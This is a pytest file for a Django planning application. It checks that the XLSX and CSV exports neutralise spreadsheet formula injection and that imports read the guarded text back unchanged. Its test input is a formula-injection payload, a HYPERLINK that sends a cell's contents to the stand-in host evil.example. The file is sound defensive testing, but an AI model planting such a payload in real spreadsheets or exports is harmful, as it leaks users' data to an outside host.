"""Safe exports (issue 15, part 2): a text that could start a formula comes out of every export as
text — a text cell in XLSX (read back: data type `s`, the same value), a quoted field in CSV — while
numbers, negative ones too, stay numbers; our own importers read the guarded text back unchanged.

The hostile text is the one of the finding: a comment, a ledger name, a milestone owner
`=HYPERLINK("http://evil.example/?x="&A1,"Click")`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from planwatch.breakdown.excel import SHEET as BREAKDOWN_SHEET
from planwatch.breakdown.excel import import_breakdown
from planwatch.core import cells
from planwatch.core.bulletin import MilestoneRow, SupervisionInput, build_content, render
from planwatch.demo.sample import load_sample
from planwatch.kernel.audit import Via
from planwatch.kernel.models import Source
from planwatch.ledgers import excel as ledger_excel
from planwatch.ledgers import services as ledger_services
from planwatch.ledgers.models import LedgerItem
from planwatch.plans.models import Target
from planwatch.reporting import excel as values_excel
from planwatch.reporting import workflow as wf
from planwatch.reporting.models import ReportedValue, ValueComment
from planwatch.supervision import actions
from planwatch.supervision import excel as plan_excel
from planwatch.supervision import services as supervision
from planwatch.supervision.models import Milestone
from tests.test_bulletin_content import make_input
from tests.test_import_values import filled

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


# --- reading the files back -----------------------------------------------------------------------


def workbook_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_hostile_is_text(data: bytes, formulas: int = 0) -> list[Any]:
    """The cells of an XLSX file holding the hostile text: at least one, each a text cell with the
    text unchanged; and no formula in the file but the `formulas` the export writes on purpose."""
    every = workbook_cells(data)
    found = [c for c in every if isinstance(c.value, str) and c.value.startswith(HOSTILE)]
    assert found, "the hostile text is in the export"
    assert {c.data_type for c in found} == {"s"}
    assert len([c for c in every if c.data_type == "f"]) == formulas
    return found


def csv_records(content: bytes | str) -> list[dict[str, str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_csv_escaped(content: bytes | str) -> list[dict[str, str]]:
    """The hostile text is there with its quote, and no text field starts a formula (a number, such
    as -5, may start with a minus)."""
    records = csv_records(content)
    fields = [v for r in records for v in r.values()]
    assert "'" + HOSTILE in fields
    for value in fields:
        if cells.starts_formula(value):
            Decimal(value)  # a number, not a text
    return records


def xlsx_of(response: Any) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return bytes(response.content)


# --- the helper -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠x", "﹦1"]
)
def test_what_starts_a_formula(text):
    assert cells.starts_formula(text)
    assert cells.csv_field(text) == "'" + text


@pytest.mark.parametrize("text", ["", "珠海市", "1+1", " =1", "'=1", "张三", "a=b"])
def test_what_does_not(text):
    assert not cells.starts_formula(text)


@given(st.text(alphabet="'=+-@＝a \t\r1", max_size=8))
def test_csv_unguard_gives_back_exactly_what_was_written(text):
    assert cells.csv_unguard(cells.csv_field(text)) == text


def test_a_quote_we_did_not_add_is_kept():
    assert cells.csv_unguard("'abc") == "'abc" and cells.csv_unguard("'800") == "'800"
    assert cells.csv_field("'=x") == "''=x" and cells.csv_unguard("''=x") == "'=x"


def test_the_guard_leaves_numbers_and_named_formulas_alone():
    book = Workbook()
    ws = book.active
    ws.append([HOSTILE, -5, -0.47, "#N/A", "=", "=SUM(B1:C1)", dt.date(2019, 1, 1), True])
    read = workbook_cells(cells.workbook_bytes(book, [ws["F1"]]))
    assert [c.value for c in read][:6] == [HOSTILE, -5, -0.47, "#N/A", "=", "=SUM(B1:C1)"]
    assert [c.data_type for c in read] == ["s", "n", "n", "s", "s", "f", "d", "b"]
    assert read[0].quotePrefix and not read[1].quotePrefix


def test_a_write_only_workbook_is_guarded_as_its_rows_are_appended():
    book = Workbook(write_only=True)
    ws = book.create_sheet("x")
    values = [HOSTILE, -5, "#N/A", "＝1+1", "plain", dt.date(2019, 1, 1), None, "="]
    appended = [cells.guarded_value(ws, v) for v in values]
    # only the texts the guard changes get a cell of their own; the rest is appended as it is
    assert [a is v for a, v in zip(appended, values, strict=True)] == [
        False,
        True,
        False,
        False,
        True,
        True,
        True,
        False,
    ]
    ws.append(appended)
    read = workbook_cells(cells.workbook_bytes(book))
    assert [c.value for c in read][:5] + [read[7].value] == values[:5] + ["="]
    assert [c.data_type for c in read] == ["s", "n", "s", "s", "s", "d", "n", "s"]
    assert [bool(c.quotePrefix) for c in read] == [True, False, True, True, False, False, False, True]


# --- values: the template, the exports, the API's CSV, the audit -----------------------------------


@pytest.fixture
def hostile_value(plan, cast, period) -> ReportedValue:
    """珠海's I07 for 2018, saved through the API with the hostile text as its import id and comment,
    then (as a test's shortcut) -5, a negative number that must stay a number."""
    zh, i07 = plan.localities.get(code="ZH"), plan.indicators.get(code="I07")
    via = Via(Source.API, HOSTILE)
    wf.save_values(cast.zoe, zh, period, [wf.Entry(i07, Decimal(5), comment=HOSTILE)], via=via)
    ReportedValue.objects.filter(indicator=i07, locality=zh).update(value=Decimal(-5))
    return ReportedValue.objects.get(indicator=i07, locality=zh)


def test_the_values_template(plan, cast, period):
    plan.indicators.filter(code="I07").update(name_zh=HOSTILE)
    zh = plan.localities.get(code="ZH")
    data = values_excel.export_template(plan, zh, period, cast.zoe)
    (name,) = assert_hostile_is_text(data)
    # Round trip: the template, filled in, imports; the indicator's name is not read.
    result = values_excel.import_values(filled(data, I07=12), "zh.xlsx", cast.zoe, plan=plan)
    assert result.saved and ReportedValue.objects.get(indicator__code="I07", locality=zh).value == 12


def test_export_values_xlsx_and_csv(tmp_path, hostile_value):
    xlsx, text = tmp_path / "v.xlsx", tmp_path / "v.csv"
    call_command("export_values", "--include-drafts", "--format", "xlsx", "-o", str(xlsx))
    call_command("export_values", "--include-drafts", "--format", "csv", "-o", str(text))
    (detail,) = assert_hostile_is_text(xlsx.read_bytes())
    value = load_workbook(xlsx).active.cell(detail.row, 4)
    assert (value.value, value.data_type) == (-5, "n")
    (row,) = assert_csv_escaped(text.read_text("utf-8"))
    assert (row["value"], row["source_detail"]) == ("-5", "'" + HOSTILE)


def test_the_audit_export_page_xlsx_and_csv(client, plan, cast, hostile_value):
    client.force_login(cast.alice)
    page = reverse("manage:audit_export", args=[plan.code])
    found = assert_hostile_is_text(xlsx_of(client.get(page)))
    assert {c.column_letter for c in found} >= {"O", "Q"}  # the comment, the source detail
    rows = assert_csv_escaped(client.get(page, {"format": "csv"}).content)
    saved = next(r for r in rows if r["event"] == "value.save")
    assert (saved["source_detail"], saved["new_value"]) == ("'" + HOSTILE, "5")
    assert next(r for r in rows if r["event"] == "value.comment")["comment"] == "'" + HOSTILE


def test_export_audit_command(tmp_path, hostile_value):
    target = tmp_path / "audit.xlsx"
    call_command("export_audit", "--format", "xlsx", "-o", str(target))
    assert_hostile_is_text(target.read_bytes())


def test_the_api_csv_of_values_and_of_the_audit(plan, cast, hostile_value):
    client = Client()
    client.force_login(cast.zoe)
    base = f"/api/v1/plans/{plan.code}"
    (row,) = assert_csv_escaped(client.get(f"{base}/values.csv?status=draft").content)
    assert row["value"] == "-5"
    client.force_login(cast.alice)
    assert_csv_escaped(client.get(f"{base}/audit?format=csv").content)


def test_the_csv_import_takes_the_quote_off_again(plan, cast, period):
    client = Client()
    client.force_login(cast.zoe)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["import_id", "period", "locality", "indicator", "value", "comment"])
    writer.writerow(["x1", "2018", "ZH", "I07", "5", cells.csv_field(HOSTILE)])
    writer.writerow(["x1", "2018", "ZH", "I08", "6", "'abc"])
    body = out.getvalue()
    response = client.post(f"/api/v1/plans/{plan.code}/datavaluesets", body, content_type="text/csv")
    assert response.status_code == 200, response.content
    texts = dict(ValueComment.objects.values_list("value__indicator__code", "text"))
    assert texts == {"I07": HOSTILE, "I08": "'abc"}


def test_the_dashboards_indicator_csv_and_xlsx(client, plan, cast):
    plan.indicators.filter(code="I01").update(name_zh=HOSTILE)
    client.force_login(cast.vic)
    base = f"/plans/{plan.code}/dashboard/indicators/I01"
    assert_hostile_is_text(xlsx_of(client.get(f"{base}/data.xlsx")))
    rows = assert_csv_escaped(client.get(f"{base}/data.csv").content)
    assert {r["indicator_zh"] for r in rows} == {"'" + HOSTILE}


def test_the_evaluation_report_workbook(plan, tmp_path):
    load_sample(plan)
    target = tmp_path / "run.xlsx"
    call_command(
        "evaluate",
        "--year",
        "2018",
        "--no-sensitivity",
        "--label",
        HOSTILE,
        "--format",
        "xlsx",
        "-o",
        str(target),
    )
    assert_hostile_is_text(target.read_bytes())


# --- ledgers, action plans, supervision, bulletin, breakdown ------------------------------------


def test_the_ledger_export_and_its_round_trip(plan, cast):
    ledger = ledger_services.get_ledger(plan, ledger_services.INVESTMENT_PROJECTS)
    book = load_workbook(io.BytesIO(ledger_excel.export_ledger(ledger, [])))
    sheet = book[ledger_excel.SHEET]
    keys = [c.key for c in ledger_excel.columns(ledger)]
    for key, value in {"locality": "ZH", "name": HOSTILE, "notes": "-", "investment": 20000}.items():
        sheet.cell(ledger_excel.FIRST_ROW, keys.index(key) + 1, value)
    cells.guard_cell(sheet.cell(ledger_excel.FIRST_ROW, keys.index("name") + 1))  # typed '=… in Excel
    out = io.BytesIO()
    book.save(out)
    ledger_excel.import_ledger(ledger, out.getvalue(), "zh.xlsx", cast.zoe)
    item = LedgerItem.objects.get()
    assert (item.name, item.notes) == (HOSTILE, "-")

    data = ledger_excel.export_ledger(ledger, LedgerItem.objects.all())
    (name,) = assert_hostile_is_text(data)
    investment = load_workbook(io.BytesIO(data))[ledger_excel.SHEET].cell(
        name.row, keys.index("investment") + 1
    )
    assert (investment.value, investment.data_type) == (20000, "n")
    ledger_excel.import_ledger(ledger, data, "again.xlsx", cast.zoe)  # the export, imported as it is
    assert list(LedgerItem.objects.values_list("name", "notes")) == [(HOSTILE, "-")]


@pytest.fixture
def hostile_milestone(plan, cast) -> Milestone:
    zh = actions.open_action_plan(cast.zoe, plan, plan.localities.get(code="ZH"), 2018)
    task = plan.tasks.order_by("order").first()
    data = actions.MilestoneData(
        task=task, title=HOSTILE, due_on=dt.date(2018, 3, 31), owner_person=HOSTILE, deliverable="@all"
    )
    return actions.add_milestone(cast.zoe, zh, data)


def test_the_action_plan_export_and_its_round_trip(plan, cast, hostile_milestone):
    data = plan_excel.export_action_plan(plan, plan.localities.get(code="ZH"), 2018)
    found = assert_hostile_is_text(data)
    assert {c.column_letter for c in found} == {"C", "E"}  # the title, the owner
    result = plan_excel.import_action_plan(data, "zh.xlsx", cast.zoe)
    assert (result.added, result.changed) == (0, 0)
    hostile_milestone.refresh_from_db()
    assert (hostile_milestone.owner_person, hostile_milestone.deliverable) == (HOSTILE, "@all")


def test_the_supervision_list(client, plan, cast, hostile_milestone):
    rows = supervision.supervision_list(plan, dt.date(2018, 4, 10))
    assert_hostile_is_text(supervision.as_xlsx(rows, dt.date(2018, 4, 10)))
    client.force_login(cast.alice)
    page = reverse("supervision:overview", args=[plan.code])
    assert_hostile_is_text(xlsx_of(client.get(page, {"as_of": "2018-04-10", "format": "xlsx"})))


def test_the_bulletin_annex():
    row = MilestoneRow("Y", "T1", HOSTILE, HOSTILE, dt.date(2019, 5, 31), "overdue", "已逾期", 30, 40)
    content = build_content(make_input(supervision=SupervisionInput(4, (row,))))
    found = assert_hostile_is_text(render(content, "xlsx"))
    assert len(found) == 2  # the milestone, its owner


def test_the_breakdown_workbook_keeps_its_own_formulas(client, plan, cast):
    plan.localities.filter(code="ZH").update(name_zh=HOSTILE)
    client.force_login(cast.lena)
    data = xlsx_of(client.get(reverse("breakdown:download", args=[plan.code, "I22"])))
    sums = [c for c in workbook_cells(data) if c.data_type == "f"]
    assert sums and all(c.value.startswith("=SUM(") for c in sums)  # the region totals
    (name,) = assert_hostile_is_text(data, formulas=len(sums))
    # Round trip: the workbook, filled in, imports (localities are read by code).
    book = load_workbook(io.BytesIO(data))
    book[BREAKDOWN_SHEET].cell(name.row, 5, 10)
    out = io.BytesIO()
    book.save(out)
    import_breakdown(out.getvalue(), "I22.xlsx", cast.lena, plan.indicators.get(code="I22"))
    assert Target.objects.get(indicator__code="I22", locality__code="ZH", year=2019).value == 10
